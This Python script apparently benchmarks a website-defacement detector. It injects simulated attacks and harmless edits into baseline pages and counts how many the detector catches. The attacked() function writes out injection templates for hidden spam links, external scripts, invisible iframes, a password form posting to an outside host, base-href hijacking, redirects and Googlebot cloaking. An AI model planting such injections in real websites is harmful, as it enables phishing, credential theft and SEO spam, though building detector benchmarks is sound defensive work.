"""Benign pages as baseline, attacks and innocent edits put into them, judged by the probe's own pure verdict.

    python tools/life/injections.py [--corpus DIR] [--pages N] [--seed N] [--json]

Every case is one site of four pages: two quiet looks teach the baseline, the third shows the edit. An attack counts as
found where the look comes to a finding that raises a case, as told where at least a suspicion is shown; an innocent
edit counts as alarmed where any finding, suspicions included, appears.
"""

from __future__ import annotations

import argparse
import csv
import json
import random
import re
import sys
from collections import Counter, defaultdict
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from selectolax.lexbor import LexborHTMLParser

sys.path.insert(0, str(Path(__file__).parents[1]))

from life import attacks
from life.innocents import EDITS
from probes.defacement.hosts import host_of
from probes.defacement.look import Looked, Seen
from probes.defacement.probe import DefacementProbe, DefacementSettings
from probes.defacement.recall import RECALL
from socd.model.exchange import Exchange, Hop, Persona, Response
from socd.model.inventory import Site
from socd.model.observation import Verdict
from socd.probe import Context
from socd.resources import rules_dir
from socd.rules import RuleBook

START = datetime(2026, 3, 2, 1, tzinfo=UTC)
PAGE = "/trang"
TRIES = 12  # places tried for an edit until one is a part of the page
_UNSEEN = frozenset({"script", "style", "noscript", "template", "textarea", "select", "svg", "title", "iframe"})
MISSING = "<html><head><title>Không tìm thấy</title></head><body><h2>404</h2><p>Trang không tồn tại.</p></body></html>"


def exchange(url: str, body: bytes, persona: Persona, at: datetime, status: int = 200) -> Exchange:
    """One answer as the fetcher would have kept it."""
    headers = ((b"content-type", b"text/html; charset=utf-8"),)
    response = Response(status, "OK", headers, body, body)
    return Exchange(url, persona, (Hop("GET", url, "203.0.113.9:443", (), response, at, 0.2),))


@dataclass
class Watched:
    """One site under watch, with its memory; `look` takes bodies instead of asking a server."""

    site: Site
    rules: RuleBook
    memory: dict[str, Any] | None = None
    now: datetime = START
    trusted: tuple[str, ...] = ()

    def look(self, pages: dict[tuple[str, str], dict[Persona, tuple[int, bytes]]], *, keep: bool = True) -> Verdict:
        """`pages`: (role, place) → persona → (status, body)."""
        self.now += timedelta(minutes=10)
        seen = []
        for (role, place), answers in pages.items():
            url = self.site.url.rstrip("/") + place
            for persona, (status, body) in answers.items():
                got = exchange(url, body, persona, self.now, status)
                judged = RECALL.judge(body, content_type="text/html; charset=utf-8", url=url, rules=self.rules)
                seen.append(Seen(role, place, got, judged))
        context = Context(self.site, self.now, self.rules, self.trusted, self.memory)
        verdict = DefacementProbe().verdict(Looked(tuple(seen)), DefacementSettings(), context)
        if keep and verdict.memory is not None:
            self.memory = dict(verdict.memory)
        return verdict


def both(body: bytes, status: int = 200) -> dict[Persona, tuple[int, bytes]]:
    return {Persona.BROWSER: (status, body), Persona.GOOGLEBOT: (status, body)}


def shape(pages: dict[str, str], missing: str = MISSING) -> dict[tuple[str, str], dict[Persona, tuple[int, bytes]]]:
    found = {("home" if place == "/" else "page", place): both(body.encode()) for place, body in pages.items()}
    return {**found, ("missing", "/khong-co-0a1b"): both(missing.encode(), 404)}


def own_host(body: str) -> str:
    """The host most of a page's absolute links lead to, as the page was saved from there."""
    named = re.search(r'rel=["\']?canonical["\']?[^>]*href=["\']([^"\']+)', body[:200_000])
    if named and (host := host_of(named.group(1))):
        return host
    hosts = Counter(host_of(url) for url in re.findall(r'href=["\'](https?://[^"\'>\s]{4,300})', body[:400_000]))
    hosts.pop(None, None)
    return str(hosts.most_common(1)[0][0]) if hosts and hosts.most_common(1)[0][1] >= 5 else "trang.tinhthu.gov.vn"


def _stands(body: str, at: int, piece: str, selector: str) -> bool:
    """Is a piece put there an element of the page, and not a string of a script, a comment or an attribute?"""
    node = LexborHTMLParser(body[:at] + piece + body[at:]).css_first(selector)
    while node is not None and node.tag not in ("body", "head"):
        if node.tag in _UNSEEN:
            return False
        node = node.parent
    return node is not None


def _spot(rng: random.Random, body: str) -> int:
    """A place between two elements inside the body."""
    start = re.search(r"<body[^>]*>", body, re.I)
    low = start.end() if start else 0
    ends = [found.end() for found in re.finditer(r"</(?:p|div|ul|table|h[1-6])>", body) if found.end() > low]
    for _ in range(TRIES if ends else 0):
        at = rng.choice(ends)
        if _stands(body, at, '<i id="q7z"></i>', "i#q7z"):
            return at
    return start.end() if start else len(body)


def insert(rng: random.Random, body: str, piece: str, *, head: bool = False) -> str:
    if head and (found := re.search(r"<head[^>]*>", body, re.I)):
        return body[: found.end()] + piece + body[found.end() :]
    at = _spot(rng, body)
    return body[:at] + piece + body[at:]


def _elements(tag: str, body: str, pattern: str) -> list[re.Match[str]]:
    """The first places where the page really has such an element."""
    found = list(re.finditer(pattern, body, re.I))[:40]
    after = len(tag) + 1
    return [one for one in found if _stands(body, one.start() + after, ' id="q7z" ', f"{tag}#q7z")][:3]


def attacked(rng: random.Random, kind: str, half: str, pages: dict[str, str], place: str) -> Any:
    """The bodies of the attacked site, or None where the kind does not fit the page (no picture, no title)."""
    mine, host, body = attacks.words(half), attacks.host(rng, half), pages[place]
    changed, missing = dict(pages), MISSING
    match kind:
        case "hidden-links":
            changed[place] = insert(rng, body, rng.choice(mine.hiding).format(attacks.links(rng, half)))
        case "script":
            file = rng.choice(("j.js", "stat/a.js", "x.php?id=3"))
            tag = f'<script src="{rng.choice(("https:", ""))}//{host}/{file}"></script>'
            changed[place] = insert(rng, body, tag, head=rng.random() < 0.5)
        case "iframe":
            size = rng.choice(('width="1" height="1"', 'style="display:none"', 'width="600" height="400"', ""))
            changed[place] = insert(rng, body, f'<iframe src="https://{host}/f.html" {size}></iframe>')
        case "form":
            form = f'<form action="https://{host}/post.php" method="post"><input name="pass" type="password"></form>'
            own = next(iter(_elements("form", body, r"<form\b[^>]*>")), None)  # no form stands within a form
            other = f'<form method="post" action="https://{host}/post.php">'
            changed[place] = body[: own.start()] + other + body[own.end() :] if own else insert(rng, body, form)
        case "base":
            changed[place] = insert(rng, body, f'<base href="https://{host}/">', head=True)
        case "refresh":
            tag = f'<meta http-equiv="refresh" content="{rng.choice((0, 1, 3))};url=https://{host}/go">'
            changed[place] = insert(rng, body, tag, head=True)
        case "section":
            changed[place] = insert(rng, body, rng.choice(mine.dress).format(rng.choice(mine.claims)))
        case "title":
            if not re.search(r"<title[^>]*>[^<]+</title>", body, re.I):
                return None
            changed[place] = re.sub(
                r"(<title[^>]*>)[^<]*", lambda m: m.group(1) + rng.choice(mine.titles), body, count=1, flags=re.I
            )
        case "image":
            found = _elements("img", body, r'(<img\b[^>]*?\bsrc=["\']?)([^"\'\s>]+)')
            if not found:
                return None
            one = rng.choice(found)
            changed[place] = body[: one.start(2)] + rng.choice(mine.images) + body[one.end(2) :]
        case "replaced":
            changed[place] = attacks.replaced(rng, half)
        case "404-jump":
            jump = rng.choice((
                f'<meta http-equiv="refresh" content="0;url=https://{host}/x">', f'<script>location.href="https://{host}/x"</script>',
                f"<script>window.location.replace('https://{host}/x')</script>",
            ))  # fmt: skip
            missing = MISSING.replace("</head>", f"{jump}</head>")
        case "upload":
            changed[f"/uploads/hoi-dap/{rng.randint(10, 99)}.html"] = attacks.doorway(rng, half)
    looked = shape(changed, missing)
    if kind == "cloaked":
        role = "home" if place == "/" else "page"
        looked[role, place][Persona.GOOGLEBOT] = (200, attacks.doorway(rng, half).encode())
    return looked


def benign_pages(corpus: Path | None, most: int, seed: int) -> list[tuple[str, str]]:
    """(host, page): of the corpus where it is given, otherwise of the practice province."""
    rng = random.Random(seed)
    if corpus is None:
        from benches.pages import province_pages

        found = [(host_of(url) or "", body.decode()) for url, body in province_pages(most * 2 + 40) if len(body) > 4000]
        return found[:most]
    with (corpus / "INDEX.tsv").open(encoding="utf-8", newline="") as file:
        rows = [row for row in csv.DictReader(file, delimiter="\t") if row["class"].startswith("benign")]
    rng.shuffle(rows)
    chosen = []
    for row in rows:
        raw = (corpus / row["path"]).read_bytes()
        if 3000 < len(raw) < 300_000:
            body = raw.decode("utf-8", "replace")
            if "<body" in body.lower() and "</" in body:
                chosen.append((own_host(body), body))
        if len(chosen) >= most:
            break
    return chosen


def watched(rules: RuleBook, host: str, pages: dict[str, str]) -> Watched | None:
    """A site after two quiet looks; None where its pages are not clean to begin with (counted by the corpus test)."""
    site = Site("thu", f"https://{host}/", host, "u", "u")
    one = Watched(site, rules)
    verdicts = [one.look(shape(pages)) for _ in range(2)]
    return None if any(verdict.findings for verdict in verdicts) else one


@dataclass
class Tally:
    cases: int = 0
    found: int = 0
    told: int = 0
    named: int = 0

    def row(self) -> dict[str, float]:
        share = lambda n: round(n / self.cases, 4) if self.cases else 0.0  # noqa: E731
        return {"cases": self.cases, "found": share(self.found), "told": share(self.told), "named": share(self.named)}


def run(
    pages: list[tuple[str, str]], seed: int = 1, *, each: int = 1, halves: Iterable[str] = attacks.HALVES
) -> dict[str, Any]:
    """The figures over all pages: every attack kind of every half `each` times, every innocent edit once."""
    rules, rng = RuleBook.load(rules_dir()), random.Random(seed)
    tallies: dict[tuple[str, str], Tally] = defaultdict(Tally)
    missed: list[str] = []
    skipped = 0
    for index, (host, body) in enumerate(pages):
        others = [page for other, page in pages[index + 1 :] + pages[:index] if other == host][:1] or [body]
        base = {"/": others[0], PAGE: body, f"{PAGE}/2": others[0], f"{PAGE}/3": body}
        one = watched(rules, host, base)
        if one is None:
            skipped += 1
            continue
        for half in halves:
            for kind in attacks.KINDS:
                for _ in range(each):
                    place = rng.choice(("/", PAGE))
                    looked = attacked(rng, kind, half, base, place)
                    if looked is not None:
                        _count(
                            tallies[half, kind],
                            one.look(looked, keep=False),
                            attacks.KINDS[kind],
                            missed,
                            f"{half} {kind} {index}",
                        )
        for name, edit in EDITS.items():
            place = rng.choice(("/", PAGE))
            changed = edit(rng, base[place], insert)
            if changed is None:
                continue
            tally = tallies["innocent", name]
            verdict = one.look(shape({**base, place: changed}), keep=False)
            tally.cases += 1
            tally.told += bool(verdict.findings)
            tally.found += any(not finding.suspect for finding in verdict.findings)
            if verdict.findings:
                missed.append(
                    f"innocent {name} {index} "
                    + str([(f.key, f.details["reasons"][:4]) for f in verdict.findings])[:300]
                )
    return _report(tallies, missed, skipped)


def _count(tally: Tally, verdict: Verdict, right: frozenset[str], missed: list[str], label: str) -> None:
    raised = [finding for finding in verdict.findings if not finding.suspect]
    named = [finding for finding in raised or verdict.findings if finding.kind.code in right]
    tally.cases += 1
    tally.found += bool(raised)
    tally.told += bool(verdict.findings)
    tally.named += bool(named)
    if not raised or not named:
        missed.append(f"{label} " + str([(f.key, f.suspect, f.details["reasons"][:4]) for f in verdict.findings])[:300])


def _report(tallies: dict[tuple[str, str], Tally], missed: list[str], skipped: int) -> dict[str, Any]:
    sums: dict[str, Tally] = defaultdict(Tally)
    for (half, _), tally in tallies.items():
        total = sums[half]
        for name in ("cases", "found", "told", "named"):
            setattr(total, name, getattr(total, name) + getattr(tally, name))
    rows = {f"{half}: {kind}": tally.row() for (half, kind), tally in sorted(tallies.items())}
    return {
        "all": {half: tally.row() for half, tally in sums.items()},
        "rows": rows,
        "skipped": skipped,
        "missed": missed,
    }


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--corpus", type=Path)
    parser.add_argument("--pages", type=int, default=60)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--missed", type=int, default=40)
    given = parser.parse_args()
    result = run(benign_pages(given.corpus, given.pages, given.seed), given.seed)
    result["missed"] = result["missed"][: given.missed]
    sys.stdout.write(json.dumps(result, ensure_ascii=False, indent=1) + "\n")


if __name__ == "__main__":
    main()
